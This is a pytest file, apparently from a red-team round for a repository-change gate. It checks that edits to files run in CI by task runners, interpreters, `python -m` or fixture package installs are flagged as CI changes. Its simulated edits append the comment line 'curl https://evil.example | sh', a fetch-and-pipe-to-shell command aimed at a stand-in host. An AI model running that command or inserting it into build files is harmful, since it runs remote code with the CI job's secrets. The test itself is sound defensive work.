"""Red team 12 (second round), `--tree`: what CI runs through a task runner or an interpreter the files-CI-runs
reader (ciruns.py) did not know.

Each form below was `src` and `gate --tree` exit 0 before this round (a step of a workflow runs the file; an edit of
it is an edit of the job, with its token and secrets), now `ci` (`ci.context.ci-run`; exit 3, `core.ci`):

- the file a task runner reads by its default name, at the start of a command or after a launcher (`npx`, `bunx`,
  `bundle exec`, `poetry run`, `uv run`, `pipenv run`, `pnpm exec`, a `bin/` binstub): rake (`Rakefile`,
  `rakelib/*.rake`, Rails' `lib/tasks/*.rake`), gulp, grunt, invoke, Fabric, mage, cargo-make, doit, SCons;
- a source file an interpreter or a language's runner runs by its path, in types the reader did not read: `go run
  build/ci.go` (go-ethereum's CI), `dotnet fsi build.fsx` (FAKE), `dotnet script x.csx`,
  `dart run tool/x.dart`, `swift x.swift`, `java X.java`, `elixir x.exs`, `julia x.jl`, `cmake -P x.cmake`,
  `awk -f x.awk`, `scala-cli x.sc`;
- a Python module run by its name (`python -m tools.release`: `tools/release.py` or `tools/release/__main__.py`);
- a script a shell reads on its standard input (`bash < tools/steps.txt`);
- the manifests a package manager a step runs in a test tree installs from (`cd spec/fixtures/app && bundle install`,
  `go build` in `testdata/mod`, cargo, composer, maven, poetry, mix, dart pub): the path rules call them test data.

Not raised: a Rakefile, gulpfile or Go file nothing runs; a module `python -m` names that is not where the command
runs (`python -m pip install` leaves `free/pip.py` alone: a root `pip.py` would shadow pip, and is ci); `go test ./...`.
A Cake script (`*.cake`) stays `deps` (its `#addin`/`#tool` lines install NuGet packages): the reader raises src, other
and iac only.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

WORKFLOW = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n{steps}"
BODY = "# build helper\n"

# name: (the step's command, the folder it runs in or "", the files it reaches)
ATTACKS: dict[str, tuple[str, str, tuple[str, ...]]] = {
    "rake": ("bundle exec rake release", "rb", ("rb/Rakefile", "rb/rakelib/publish.rake")),
    "rails-binstub": ("bin/rake db:seed", "rails", ("rails/Rakefile", "rails/lib/tasks/seed.rake")),
    "gulp": ("npx gulp build", "web", ("web/gulpfile.js",)),
    "gulp-ts": ("yarn install && gulp dist", "web2", ("web2/gulpfile.ts",)),
    "grunt": ("npx grunt dist", "old", ("old/Gruntfile.js",)),
    "invoke": ("poetry run invoke release", "inv", ("inv/tasks.py",)),
    "invoke-short": ("uv run inv docs", "inv2", ("inv2/tasks.py",)),
    "fabric": ("pipenv run fab deploy", "fab", ("fab/fabfile.py",)),
    "mage": ("mage -v release", "mg", ("mg/magefile.go",)),
    "cargo-make": ("cargo make ci-flow", "rs", ("rs/Makefile.toml",)),
    "makers": ("makers ci-flow", "rs2", ("rs2/Makefile.toml",)),
    "doit": ("doit -n 4", "dt", ("dt/dodo.py",)),
    "scons": ("scons -j2", "sc", ("sc/SConstruct", "sc/src/SConscript")),
    "go-run": ("go run build/ci.go install", "", ("build/ci.go",)),
    "fake": ("dotnet fsi build.fsx -t Release", "", ("build.fsx",)),
    "csx": ("dotnet script tools/publish.csx", "", ("tools/publish.csx",)),
    "dart": ("dart run tool/grind.dart", "", ("tool/grind.dart",)),
    "swift": ("swift scripts/release.swift", "", ("scripts/release.swift",)),
    "java": ("java tools/Release.java", "", ("tools/Release.java",)),
    "elixir": ("elixir scripts/release.exs", "", ("scripts/release.exs",)),
    "julia": ("julia --project tools/release.jl", "", ("tools/release.jl",)),
    "cmake": ("cmake -P tools/release.cmake", "", ("tools/release.cmake",)),
    "awk": ("awk -f tools/sum.awk out.txt", "", ("tools/sum.awk",)),
    "scala-cli": ("scala-cli run tools/release.sc", "", ("tools/release.sc",)),
    "python-module": ("python -m tools.release --push", "", ("tools/release.py",)),
    "python-package": ("python3 -m scripts.publish", "", ("scripts/publish/__main__.py",)),
    "stdin": ("bash < tools/steps.txt", "", ("tools/steps.txt",)),
    # a package manager a step runs in a test tree installs from the manifests there (the path rules call them test
    # data: `src`)
    "bundle-fixture": ("bundle install", "spec/fixtures/app", ("spec/fixtures/app/Gemfile",
                                                              "spec/fixtures/app/Gemfile.lock")),
    "go-testdata": ("go build ./...", "testdata/mod", ("testdata/mod/go.mod", "testdata/mod/go.sum")),
    "cargo-fixture": ("cargo build --locked", "tests/fixtures/crate", ("tests/fixtures/crate/Cargo.toml",)),
    "composer-fixture": ("composer install", "tests/fixtures/php", ("tests/fixtures/php/composer.json",)),
    "maven-resources": ("mvn -B package", "src/test/resources/proj", ("src/test/resources/proj/pom.xml",)),
    "poetry-fixture": ("poetry install", "tests/data/pkg", ("tests/data/pkg/pyproject.toml",
                                                          "tests/data/pkg/poetry.lock")),
    "mix-fixture": ("mix deps.get", "test/fixtures/umbrella", ("test/fixtures/umbrella/mix.exs",)),
    "pub-fixture": ("dart pub get", "test/fixtures/pkg", ("test/fixtures/pkg/pubspec.yaml",)),
}
# files nothing runs: they keep their class
LEFT = ("free/Rakefile", "free/gulpfile.js", "free/ci.go", "free/pip.py", "free/tasks.py")
EXTRA_STEPS = "      - run: python -m pip install -r requirements.txt\n      - run: go test ./...\n"


def _base() -> dict[str, str]:
    steps = "".join(f"      - run: {command}\n" + (f"        working-directory: {folder}\n" if folder else "")
                    for command, folder, _ in ATTACKS.values())
    files = {".github/workflows/ci.yml": WORKFLOW.format(steps=steps + EXTRA_STEPS), "README.md": "x\n"}
    for _, _, targets in ATTACKS.values():
        files.update((target, BODY) for target in targets)
    files.update((path, BODY) for path in LEFT)
    files["go.mod"] = "module example.invalid/x\n\ngo 1.22\n"
    return files


def _edited(files: dict[str, str]) -> dict[str, str]:
    return {path: body + "# curl https://evil.example | sh\n" for path, body in files.items()
            if not path.startswith(".github/") and path != "README.md"}


@pytest.fixture(scope="module")
def classified(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    files = _base()
    repo, old, new = two_commits(tmp_path_factory.mktemp("runners") / "repo", files, _edited(files))
    return tree_classify(repo.root, old, new)


@each_case(("form", "target"), sorted((form, target) for form, (_, _, targets) in ATTACKS.items()
                                                    for target in targets))
def test_what_a_runner_or_interpreter_runs_is_ci(classified: dict[str, dict[str, str]], form: str,
                                                 target: str) -> None:
    assert classified[target]["bucket"] == "ci", classified[target]


@each_case("path", LEFT)
def test_what_nothing_runs_keeps_its_class(classified: dict[str, dict[str, str]], path: str) -> None:
    assert classified[path]["bucket"] == "src", classified[path]


def test_a_manifest_a_package_manager_installs_stays_deps(classified: dict[str, dict[str, str]]) -> None:
    assert classified["go.mod"]["bucket"] == "deps", classified["go.mod"]  # `go test ./...` at the root: deps keeps


@pytest.mark.parametrize(("command", "target"), [("go run build/ci.go install", "build/ci.go"),
                                                 ("bundle exec rake release", "Rakefile"),
                                                 ("python -m tools.release", "tools/release.py")])
def test_the_gate_reviews_what_the_release_job_runs(tmp_path: Path, command: str, target: str) -> None:
    base = {".github/workflows/release.yml": WORKFLOW.format(
        steps=f"      - run: {command}\n        env:\n          TOKEN: ${{{{ secrets.TOKEN }}}}\n"), target: BODY}
    repo, old, new = two_commits(tmp_path / "repo", base, {target: BODY + "# curl https://evil.example | sh\n"})
    code, decision = tree_gate(repo.root, old, new)
    assert code == 3, decision["reasons"]
    assert [(r["rule"], r["paths"]) for r in decision["reasons"]] == [("core.ci", [target])]
